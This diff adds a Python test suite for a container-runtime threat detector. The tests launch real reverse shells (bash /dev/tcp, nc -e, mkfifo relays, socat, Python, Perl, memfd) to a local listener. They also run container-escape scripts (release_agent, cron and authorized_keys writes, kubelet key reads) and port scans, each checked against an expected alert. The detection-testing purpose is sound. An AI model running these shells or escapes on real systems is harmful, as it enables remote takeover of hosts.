@@ -1,0 +1,165 @@
+#!/usr/bin/python3
+# SPDX-License-Identifier: Apache-2.0
+"""Reverse shells and ways out of a container, one technique after the other, each for real in a runc
+container: every one raises its alert, which names the container.
+"""
+
+import os
+import shutil
+import subprocess
+import unittest
+
+from harness import Listener
+from watched import Watched
+
+SHELL = "Reverse shell"
+RELAY = "Network relay on a named pipe"
+BEHIND_RELAY = "Shell started by a network relay"
+NAMELESS = "Program without a name executed in a container"
+
+# The node's programs, for containers that need more than their image has.
+PROGRAMS = {"/usr": "/usr", "/lib": "/lib", "/lib64": "/lib64"}
+
+PYTHON = """
+import os, socket
+s = socket.create_connection(("127.0.0.1", {port}))
+for stream in range(3): os.dup2(s.fileno(), stream)
+os.execv("/usr/bin/bash", ["bash"])
+"""
+MEMFD = """
+import os, socket
+s = socket.create_connection(("127.0.0.1", {port}))
+m = os.memfd_create("x")
+os.write(m, open("/bin/busybox", "rb").read())
+for stream in range(3): os.dup2(s.fileno(), stream)
+os.execve(f"/proc/self/fd/{{m}}", ["sh"], {{}})
+"""
+PERL = """
+use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in({port}, inet_aton("127.0.0.1")));
+open(STDIN, "<&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh");
+"""
+
+# How the shell is started, and the rules that tell. {port}: where the attacker listens.
+SHELLS = {
+    "bash /dev/tcp": (["/usr/bin/bash", "-c", "exec bash -i >&/dev/tcp/127.0.0.1/{port} 0>&1"], [SHELL]),
+    "nc -e": (["/bin/nc", "127.0.0.1", "{port}", "-e", "/bin/sh"], [SHELL]),
+    "sh, mkfifo and nc": (["/bin/sh", "-c", "/bin/busybox mkfifo /tmp/f; /bin/sh -i </tmp/f 2>&1 | "
+                           "/bin/nc 127.0.0.1 {port} >/tmp/f"],
+                          [RELAY, "Shell takes its commands from a named pipe"]),
+    "telnet": (["/bin/sh", "-c", "/bin/busybox mkfifo /tmp/f; /bin/busybox telnet 127.0.0.1 {port} </tmp/f "
+                "| /bin/sh >/tmp/f 2>&1"], [RELAY]),
+    "socat with a terminal": (["/usr/bin/socat", "TCP:127.0.0.1:{port}",
+                               "EXEC:/usr/bin/bash,pty,setsid,ctty,stderr"], [BEHIND_RELAY]),
+    "python": (["/usr/bin/python3", "-c", PYTHON], [SHELL]),
+    "perl": (["/usr/bin/perl", "-e", PERL], [SHELL]),
+    "a program in memory": (["/usr/bin/python3", "-c", MEMFD], [SHELL, NAMELESS]),
+    "a static program": (["/bin/dup3_shell", "127.0.0.1", "{port}"], [SHELL]),
+}
+
+# Scripts of a privileged container in the node's pid namespace, and the rule that tells. {service}: a
+# process of the node; /host: a directory of the node that looks like one.
+WAYS_OUT = {
+    "release_agent": ("mkdir -p /tmp/cg && mount -t cgroup -o none,name=nezuban{unique} none /tmp/cg && "
+                      "exec 3<>/tmp/cg/release_agent; umount /tmp/cg",
+                      "Container writes where the node's kernel takes a program from"),
+    "poweroff_cmd": ("exec 3<>/proc/sys/kernel/poweroff_cmd",
+                     "Container writes where the node's kernel takes a program from"),
+    "a cgroup hierarchy": ("mkdir -p /tmp/cg && mount -t cgroup2 none /tmp/cg; umount /tmp/cg",
+                           "Container mounts a cgroup hierarchy"),
+    "the node's processes": ("mkdir -p /tmp/p && mount -t proc none /tmp/p; umount /tmp/p",
+                             "Container mounts the host's proc"),
+    "the namespaces of a process": ("nsenter -t {service} -m -u -i true", "Container enters other namespaces"),
+    "the root of a process": ("read line </proc/{service}/root/etc/hostname",
+                              "Container opens a file of another mount namespace"),
+    "a user namespace": ("/usr/bin/unshare -U /bin/true", "Container makes a user namespace"),
+    "a root directory of the node": ("/bin/busybox chroot /host /bin/true",
+                                     "Container changes its root directory"),
+    "cron of the node": ("echo '* * * * * root id' >/host/etc/cron.d/x",
+                         "Container writes what the node starts programs from"),
+    "a key for the node": ("mkdir -p /host/root/.ssh; echo key >>/host/root/.ssh/authorized_keys",
+                           "Container writes what the node starts programs from"),
+    "the kubelet's key": ("read line </host/var/lib/kubelet/pki/kubelet.key",
+                          "Container opens the node's credentials"),
+    "the runtime's binary": ("exec 3>>/host/usr/bin/runc", "Container opens the runtime's binary for writing"),
+}
+
+
+class Techniques(Watched):
+    def node(self):
+        """A directory that looks like a node's disk."""
+        node = self.directory / "node"
+        for name in ("bin", "etc/cron.d", "root", "var/lib/kubelet/pki", "usr/bin"):
+            (node / name).mkdir(parents=True, exist_ok=True)
+        shutil.copy("/bin/busybox", node / "bin" / "true")
+        for name in ("var/lib/kubelet/pki/kubelet.key", "usr/bin/runc"):
+            (node / name).write_text("x\n")
+        return node
+
+    def test_reverse_shells(self):
+        for name, (command, rules) in SHELLS.items():
+            with self.subTest(name):
+                attacker = Listener()
+                self.addCleanup(attacker.close)
+                words = [word.format(port=attacker.port) for word in command]
+                container = self.container(*words, mounts=PROGRAMS)
+                heard, _ = attacker.converse("echo $((6*7))")
+                self.assertIn("42", heard)
+                for rule in rules:
+                    self.expect(rule, container, container.id)
+
+    def test_openssl_on_a_named_pipe(self):
+        attacker = Listener()
+        self.addCleanup(attacker.close)
+        container = self.container(
+            "/bin/sh", "-c", f"/bin/busybox mkfifo /tmp/f; /bin/sh -i </tmp/f 2>&1 | /usr/bin/openssl s_client "
+            f"-quiet -connect 127.0.0.1:{attacker.port} >/tmp/f", mounts=PROGRAMS)
+        attacker.accept()[0].close()
+        self.expect(RELAY, container, container.id)
+
+    def test_a_shell_that_waits_for_its_peer(self):
+        port = Listener()
+        number = port.port
+        port.close()
+        container = self.container("/bin/nc", "-l", "-p", str(number), "-e", "/bin/sh")
+        peer = subprocess.run(["/usr/bin/python3", "-c", f"""
+import socket, time
+for attempt in range(300):
+    try:
+        s = socket.create_connection(("127.0.0.1", {number}))
+        break
+    except ConnectionRefusedError: time.sleep(0.05)
+s.sendall(b"echo $((6*7)); exit\\n")
+print(s.makefile().read())
+"""], check=True, capture_output=True, text=True)
+        self.assertIn("42", peer.stdout)
+        self.expect(SHELL, container, container.id)
+
+    def test_ways_out(self):
+        mounts = {**PROGRAMS, "/host": self.node()}
+        for number, (name, (script, rule)) in enumerate(WAYS_OUT.items()):
+            with self.subTest(name):
+                unique = f"{os.getpid()}x{number}"
+                container = self.run_privileged(
+                    script.format(service=self.service.pid, unique=unique), mounts=mounts)
+                self.expect(rule, container, container.id)
+
+    def test_a_descriptor_that_was_left_open(self):
+        container = self.make_container("/bin/sh", "-c", "cd /proc/self/fd/3 && read line <etc/hostname")
+        container.start(leaked="/")
+        container.finish()
+        self.expect("Container opens a file of another mount namespace", container, container.id,
+                    fd_name="/etc/hostname")
+
+    def test_scans_are_counted(self):
+        container = self.container(
+            "/usr/bin/bash", "-c", "for i in {1..60}; do exec 3<>/dev/tcp/127.0.1.$i/9; done 2>/dev/null; "
+            "for i in {1..40}; do exec 3<>/dev/tcp/127.0.2.1/$i; done 2>/dev/null")
+        container.finish()
+        addresses = self.expect("Container scans addresses", container, container.id)
+        self.assertEqual(addresses["count"], 50)
+        ports = self.expect("Container scans ports", container, container.id)
+        self.assertEqual(ports["count"], 30)
+
+
+if __name__ == "__main__":
+    unittest.main(verbosity=2)
